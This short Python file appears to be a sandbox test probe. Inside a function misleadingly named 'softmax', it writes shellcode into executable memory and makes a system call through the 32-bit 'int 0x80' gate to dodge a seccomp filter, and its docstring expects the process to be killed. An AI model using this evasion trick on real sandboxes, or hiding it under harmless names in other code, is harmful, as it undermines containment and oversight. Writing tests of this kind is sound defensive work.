"""System calls by the 32-bit door, where fork has the number of another call.

comes back: crashed
saying: killed by SIG
stopped by: seccomp
machine: x86_64
"""

import ctypes
import mmap


def softmax(z, axis=-1):
    code = bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
